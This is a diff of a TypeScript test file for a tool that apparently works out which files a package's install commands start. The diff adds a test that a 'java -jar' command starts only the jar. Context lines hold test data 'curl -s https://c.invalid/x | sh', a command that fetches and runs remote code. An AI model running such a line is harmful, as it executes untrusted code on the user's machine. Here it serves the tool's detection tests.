@@ -1,5 +1,6 @@
 import t from 'tap'
 import type { ContentFacts } from '../../src/model/fact.ts'
+import { findLocal, startedFiles } from '../../src/analysis/started-files.ts'
 import { inspectFiles } from './archive-of.ts'
 
 const PIPE = 'curl -s https://c.invalid/x | sh'
@@ -132,4 +133,9 @@ t.test('or it is told that it is not', async (t) => {
 
 t.test('and nothing is said of tools that start nothing of the package', async (t) => {
   for (const [command, files] of ORDINARY) t.same([...told(await installs(command, files))], [], command)
+})
+
+t.test('a program of Java is started, and not what it works on', async (t) => {
+  const files = findLocal((path) => ['tools/a.jar', 'b.g4'].includes(path))
+  t.same(startedFiles('java -cp . -jar tools/a.jar -o out b.g4', '.', files), ['tools/a.jar'])
 })
